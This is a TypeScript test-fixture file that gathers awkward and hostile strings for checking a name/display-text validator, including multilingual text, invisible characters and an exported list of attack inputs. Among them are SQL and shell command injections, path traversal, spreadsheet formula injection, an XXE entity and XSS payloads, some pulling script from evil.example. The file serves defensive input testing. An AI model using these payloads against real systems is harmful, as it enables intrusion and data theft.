/**
 * Texts that break careless programs, collected for this project: what people, spreadsheets and attackers type where a name
 * is asked for. `SHOWN` must come out letter by letter; `REFUSED` hold what could make two names look alike and are refused.
 */
import { isDisplayText } from '#schemas/catalog/display-text.ts'

const lines = (block: string): string[] => block.split('\n').filter((line) => line !== '')
const words = (block: string): string[] => block.split(/\s+/).filter((word) => word !== '')

const RESERVED = words(`
undefined undef null NULL (null) nil NIL none None true false TRUE FALSE True False NaN nan Infinity -Infinity inf
hasOwnProperty __proto__ constructor prototype toString valueOf then length arguments eval this window document self
CON PRN AUX NUL COM1 LPT1 CLOCK$ con.txt aux.csv desktop.ini .DS_Store .htaccess web.config index.html robots.txt
admin root administrator system test default select insert drop delete union where order group`)

const NUMBERS = words(`
0 1 -1 +1 00 007 1.00 $1.00 1/2 1E2 1E02 1E+02 -1.00 -$1.00 1/0 0/0 -2147483648/-1 -9223372036854775808 -0 -0.0 +0 +0.0
0.00 0..0 . 0.0.0 0,00 0,,0 , 0,0,0 0.0/0 1.0/0.0 0.0/0.0 1,0/0,0 0,0/0,0 --1 - -. -, 99999999999999999999 1#INF 1#QNAN
0x0 0xffffffff 0xabad1dea 0b101 0o17 123456789012345678901234567890 1,000.00 1'000.00 1.000,00 01000 08 09 2.2250738585072011e-308
1e1000 -1e1000 5e-324 9007199254740993 ½ ² ³ ⅷ ① ㈠ 〇 壹贰叁 十二万三千 １２３ ٣٤٥ ১২৩ ೧೨೩ 𝟙𝟚𝟛 2026-02-30 2026-13-01 0000-00-00 1/2/3 3月4日`)

const SIGNS = lines(String.raw`
,./;'[]\-=
<>?:"{}|_+
!@#$%^&*()
~${'`'}
''
""
' OR 1=1 --
'"'"'"'
\\
\
\n\r\t\0
%
%%
%s%s%s%n
%d %x %p
%00
%0d%0aSet-Cookie: a=b
%2e%2e%2f
&
&amp;
&amp;amp;
&lt;b&gt;
&#60;b&#62;
&#x3c;
&nbsp;
&unknown;
&;
${'$'}{7*7}
#{7*7}
{{7*7}}
{% 7*7 %}
<%= 7*7 %>
[[7*7]]
@(7*7)
*{7*7}
${'$'}HOME
${'$'}ENV{'HOME'}
%USERPROFILE%
~/.ssh/id_rsa
!!python/object/apply:os.system ['id']
;ls -la
| cat /etc/passwd
${'`'}id${'`'}
${'$'}(id)
&& shutdown
> /dev/null
1;DROP TABLE datasets
1'; DROP TABLE datasets--
' UNION SELECT 1,2,3 --
admin'--
") or ("1"="1
*)(uid=*))(|(uid=*
../../../../etc/passwd
..\..\..\windows\win.ini
/dev/null; touch x
C:\CON\CON
file:///etc/passwd
http://a/%%30%30
javascript:alert(1)
data:text/html,x
//evil.example/x
\\evil.example\share
mailto:a@b.example?bcc=c
=1+1
=HYPERLINK("http://x.example","点我")
=cmd|' /C calc'!A0
+1+1
-1+1
@SUM(1+1)*cmd
=IMPORTXML("http://x.example","//a")
# 标题
**粗** _斜_ ~~删~~
[文字](javascript:alert(1))
![图](http://x.example/x.png)
| a | b |
- [ ] 项
> 引用
${'`'}代码${'`'}
---
<!-- 注释 -->
<!-- -- > -->
<![CDATA[x]]>
]]>
<?xml version="1.0"?>
<!DOCTYPE html>
<!ENTITY x SYSTEM "file:///etc/passwd">
<?php echo 1 ?>
<
>
<>
</>
< b >
<a
<b>粗</b>
</td></tr></table>
</title><h1>x
</textarea>x
</script>x
</style>x
</svg>x
</select><b>x
<br/>
<plaintext>
<marquee>x
<base href="http://evil.example/">
<meta http-equiv="refresh" content="0">
<form action="http://evil.example"><input name=a>
<isindex>
<svg/onload=x>
<math><mi>x
<template>x</template>
<noscript><p title="</noscript><b>x">
<style>*{display:none}</style>
<link rel=stylesheet href=//evil.example>
" autofocus onfocus="x
' autofocus onfocus='x
" style="display:none
a" b='c' d=${'`'}e${'`'}
{"a":1}
{"$ref":"#"}
[1,2,3]
"quoted"
"a,b";c
a;b;c
a,b
a    b
a|b
key=value&key=other
?a=b#c
#fragment
id:name:type
{}
[]
()
(){ :;}; echo x
${'$'}where: '1==1'
{"$gt":""}
'+alert(1)+'
'; alert(1); '
\'; alert(1); //
\u003cb\u003e
\x3cb\x3e
\74b\76
%3Cb%3E
%253Cb%253E
+ADw-b+AD4-
=?utf-8?B?PGI+?=
`)

const LETTERS = lines(`
中文名称
繁體中文與標點「」『』
田中さんにあげて下さい
パーティーへ行かないか
和製漢語
部落格
사회과학원 어학연구소
찦차를 타고 온 펲시맨과 쑛다리 똠방각하
社會科學院語學研究所
울란바토르
𠜎𠜱𠝹𠱓𠱸𠲖𠳏
𪚥龘靐齉
㐀㐁㒳
〆〻〢〩
ｱｲｳﾊﾟ
ＦｕｌｌＷｉｄｔｈ
Ω≈ç√∫˜µ≤≥÷
åß∂ƒ©˙∆˚¬…æ
œ∑´®†¥¨ˆøπ“‘
¡™£¢∞§¶•ªº–≠
¸˛Ç◊ı˜Â¯˘¿
ÅÍÎÏ˝ÓÔÒÚÆ☃
Œ„´‰ˇÁ¨ˆØ∏”’
⁄€‹›ﬁﬂ‡°·‚—±
⅛⅜⅝⅞
ЁЂЃЄЅІЇЈЉЊЋЌ
Съешь же ещё этих мягких булок
ΑΒΓΔ Ξεσκεπάζω την ψυχοφθόρα βδελυγμία
Łódź, Žižkov, Đà Nẵng
ĂÂĐÊÔƠƯ ắằẳẵặ
Zażółć gęślą jaźń
Größe STRASSE straße ẞ
İstanbul ıI iİ
ǅ ǈ ǋ
Ꭰ Ꭱ Ꭲ
ⴰⴱⴳⴷ
שָׁלוֹם
דג סקרן שט בים
الكل في المجمو عة
صِف خَلقَ خَودٍ
نستعلیق
ܐܒܓܕ
हिन्दी में
ক্ষীর
ਪੰਜਾਬੀ
தமிழ்
తెలుగు
ಕನ್ನಡ
മലയാളം
සිංහල
ภาษาไทย
ລາວ
བོད་ཡིག
ဗမာ
ქართული
አማርኛ
ខ្មែរ
ᠮᠣᠩᠭᠣᠯ
ꡖꡍꡂꡛ
Հայերեն
ᚠᚢᚦᚨᚱᚲ
𐌰𐌱𐌲
𓂀𓃭
𝕋𝕙𝕖 𝓺𝓾𝓲𝓬𝓴 𝚋𝚛𝚘𝚠𝚗
ⒻⓄⓍ
⒯⒣⒠
ʇǝxǝʇ uʍop ǝpısdn
Ṱ̺ḛ̆x̱t
xͯ aͣ
(╯°□°）╯︵ ┻━┻
( ͡° ͜ʖ ͡°)
¯\\_(ツ)_/¯
(｡◕‿◕｡)
ヽ༼ຈل͜ຈ༽ﾉ
😍
👩🏽
👾🙇💁🙅🙆🙋🙎🙍
🐵🙈🙉🙊
🇨🇳🇺🇸🇷🇺
🇨
🈶🈚🈸🈺🈷
♥★☆♪♫☎✈
←↑→↓↔⇒⇔
─│┌┐└┘├┤
█▓▒░▁▂▃▄▅
①②③④⑤⑥⑦⑧⑨⑩
㎏㎡㏄㎞
℃℉№℡™
￥＄￡€¥₩₹₽
“引号”‘单引’《书名》〈单书名〉
，。、；：？！…—～·
（）［］｛｝【】〔〕
　全角空格在中间　不在两边
Powerلُلُصّبُلُلصّبُررً
Craig Cockburn, Software Specialist
Scunthorpe General Hospital
Penistone Community Church
Linda Callahan
RomansInSussex.co.uk
Dr. Herman I. Libshitz
evaluate; medieval; Classics
If you're reading this, you have been in a coma
Roses are red, violets are blue
But now...for my next trick...
Null O'Neill-D'Angelo 3rd
Robert'); DROP TABLE Students;--
第1章：<概述> & “说明”
`)

/** One letter of each of many alphabets and sets of signs, and each printable ASCII sign alone and doubled. */
const EACH = [
  ...Array.from({ length: 94 }, (_, at) => String.fromCharCode(33 + at)).filter((sign) => !/[\p{L}\p{N}]/u.test(sign)),
  ...Array.from({ length: 94 }, (_, at) => String.fromCharCode(33 + at).repeat(2)).filter((two) => !/\w/.test(two)),
  ...[0xa1, 0x1e00, 0x2c00, 0x2d30, 0x3105, 0xa000, 0xa500, 0xa840, 0xac00, 0xfb00, 0xff01, 0x10000, 0x10280, 0x12000]
    .concat([0x2c80, 0x2e80, 0x2f00, 0x2ff0, 0x3041, 0x30a1, 0x3131, 0x31a0, 0x31c0, 0x3200, 0x3300, 0x4dc0, 0xa490])
    .concat([0xa720, 0xa880, 0xaa00, 0xab30, 0xfe30, 0xfe50, 0x10330, 0x10400, 0x10800, 0x10900, 0x10a60, 0x11013])
    .concat([0x16800, 0x1d400, 0x1f000, 0x1f0a1, 0x1f300, 0x1f600, 0x1f680, 0x1f900, 0x20000, 0x2a700, 0x30000])
    .map((point) => `字${String.fromCodePoint(point)}`),
]

/** What is invisible, turns a line round, or is no letter at all, in the middle of a name. */
const HIDDEN = [
  ...Array.from({ length: 32 }, (_, at) => at).filter((at) => at !== 10 && at !== 13),
  ...Array.from({ length: 33 }, (_, at) => 0x7f + at),
  ...[0xa0, 0xad, 0x34f, 0x61c, 0x115f, 0x1160, 0x1680, 0x17b4, 0x180b, 0x180e, 0x2000, 0x2003, 0x200a, 0x200b, 0x200c],
  ...[0x200d, 0x200e, 0x200f, 0x2028, 0x2029, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x202f, 0x205f, 0x2060, 0x2061],
  ...[0x2066, 0x2067, 0x2068, 0x2069, 0x206a, 0x206f, 0x2800, 0x3164, 0xe000, 0xfdd0, 0xfe0f, 0xfeff, 0xfff9, 0xfffe],
  ...[0xffff, 0xffa0, 0x1d173, 0xe0001, 0xe0041, 0xe0100, 0xf0000, 0x10ffff],
]

/** 30 and more that try to run something; each would call `alert`, set `hacked` or fetch from elsewhere. */
export const ATTACKS = lines(`
<script>alert(1)</script>
<script src=//evil.example/x.js></script>
"><script>alert(1)</script>
'><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</script><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img src=x onerror=alert(1)//
<img/src=x/onerror=alert(1)>
"><img src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><foreignObject><body onload=alert(1)>
<body onload=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>">
<object data="javascript:alert(1)">
<embed src="javascript:alert(1)">
<a href="javascript:alert(1)">x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<form><button formaction="javascript:alert(1)">x
<input autofocus onfocus=alert(1)>
" autofocus onfocus=alert(1) x="
' onmouseover=alert(1) x='
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)>
<math href="javascript:alert(1)">x</math>
<style>@import'//evil.example/x.css';</style>
<link rel=stylesheet href=//evil.example/x.css>
<base href=//evil.example/>
<meta http-equiv=refresh content="0;url=//evil.example/">
<div style="background:url(//evil.example/x.png)">
<ScRiPt>hacked=1</sCrIpT>
<scr<script>ipt>alert(1)</scr</script>ipt>
&lt;script&gt;alert(1)&lt;/script&gt;
javascript:alert(1)
{{constructor.constructor('alert(1)')()}}
${'$'}{alert(1)}
`)

export const SHOWN = [...new Set([RESERVED, NUMBERS, SIGNS, LETTERS, EACH].flat().map((text) => text.trim()))].filter(
  isDisplayText,
)

export const REFUSED = HIDDEN.map((point) => `名${String.fromCodePoint(point)}称`)
